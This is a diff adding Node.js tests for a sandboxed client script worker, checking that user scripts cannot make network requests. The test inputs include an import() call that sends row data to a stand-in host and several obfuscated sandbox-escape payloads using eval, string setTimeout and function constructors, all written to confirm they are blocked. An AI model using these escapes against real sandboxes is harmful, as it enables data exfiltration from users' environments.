@@ -0,0 +1,93 @@
+/**
+ * Client Script Worker tests
+ * Loads js/client-script-worker.js into a stand-in worker global whose network
+ * functions record every call, then runs scripts that try to reach the network.
+ *
+ * Usage (from the repository root):
+ *   node --test test/
+ */
+
+const test = require('node:test');
+const assert = require('node:assert');
+const fs = require('fs');
+const path = require('path');
+const vm = require('vm');
+
+const WORKER_SOURCE = fs.readFileSync(path.join(__dirname, '../js/client-script-worker.js'), 'utf8');
+
+/**
+ * Run a script in a fresh worker
+ * @returns {Object} { reply, requests } - the worker's message and the network calls made
+ */
+function runScript(code) {
+    const requests = [];
+    const replies = [];
+    const worker = {
+        postMessage: message => replies.push(structuredClone(message)),   // Copied, like a real worker reply
+        fetch: url => { requests.push(String(url)); return Promise.resolve(); },
+        importScripts: url => { requests.push(String(url)); },
+        setTimeout: handler => { requests.push(String(handler)); }   // Strings are compiled as code
+    };
+    worker.self = worker;
+    vm.createContext(worker);
+    vm.runInContext(WORKER_SOURCE, worker, {
+        // Any import() that gets compiled is recorded as a request instead of loading
+        importModuleDynamically: specifier => {
+            requests.push(specifier);
+            return new vm.SyntheticModule([], () => {}, { context: worker });
+        }
+    });
+
+    worker.onmessage({ data: { type: 'run', code, rows: [{ Name: 'Ann' }], headers: ['Name'], maxIssues: 10 } });
+    return { reply: replies[0], requests };
+}
+
+test('runs a well-behaved script', () => {
+    const { reply, requests } = runScript("addError(0, 'Name', 'bad ' + rows[0].data.Name);");
+    assert.strictEqual(reply.type, 'done');
+    assert.deepStrictEqual(reply.issues, [{ row: 0, field: 'Name', severity: 'error', message: 'bad Ann' }]);
+    assert.deepStrictEqual(requests, []);
+});
+
+test('rejects import() before the script runs', () => {
+    const scripts = [
+        "import('https://example.com/?' + JSON.stringify(rows));",
+        "import ('https://example.com/');",
+        "import/* hidden */('https://example.com/');",
+        "import\n('https://example.com/');",
+        "log('before'); const load = () => import('https://example.com/'); load();"
+    ];
+
+    scripts.forEach(code => {
+        const { reply, requests } = runScript(code);
+        assert.strictEqual(reply.type, 'error', code);
+        assert.match(reply.message, /import\(\) is not allowed/);
+        assert.deepStrictEqual(requests, [], code);
+    });
+});
+
+test('blocks compiling import() at run time', () => {
+    const escapes = [
+        "Function('return imp' + 'ort(\"https://example.com/\")')();",
+        "(function () {}).constructor('return imp' + 'ort(\"https://example.com/\")')();",
+        "(async function () {}).constructor('return imp' + 'ort(\"https://example.com/\")')();",
+        "Object.getPrototypeOf(function* () {}).constructor('yield imp' + 'ort(\"https://example.com/\")')().next();",
+        "eval('imp' + 'ort(\"https://example.com/\")');",
+        "setTimeout('imp' + 'ort(\"https://example.com/\")');"
+    ];
+
+    escapes.forEach(code => {
+        const { reply, requests } = runScript(code);
+        assert.strictEqual(reply.type, 'error', code);
+        assert.deepStrictEqual(requests, [], code);
+    });
+});
+
+test('blocks the network globals', () => {
+    const { reply, requests } = runScript(
+        "log(typeof fetch, typeof importScripts, typeof postMessage, typeof send, typeof Worker, typeof Blob);"
+    );
+    assert.strictEqual(reply.type, 'done');
+    assert.deepStrictEqual(reply.logs, ['undefined undefined undefined undefined undefined undefined']);
+    assert.deepStrictEqual(requests, []);
+});